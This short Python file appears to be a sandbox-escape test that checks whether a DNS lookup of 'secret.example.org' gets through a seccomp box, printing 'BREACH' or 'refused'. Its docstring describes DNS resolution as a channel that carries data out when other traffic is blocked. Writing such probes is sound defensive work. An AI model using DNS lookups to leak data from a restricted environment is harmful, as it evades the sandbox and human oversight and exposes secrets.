"""Looks a name up, which carries data out even where nothing else gets through.

stopped by: seccomp box
unproved: it would ask a real server
reasons: assertion
"""

import socket

try:
    print("BREACH:", socket.getaddrinfo("secret.example.org", 80))
except OSError as error:
    print("refused:", error)


async def reports(ask, stations):
    return None
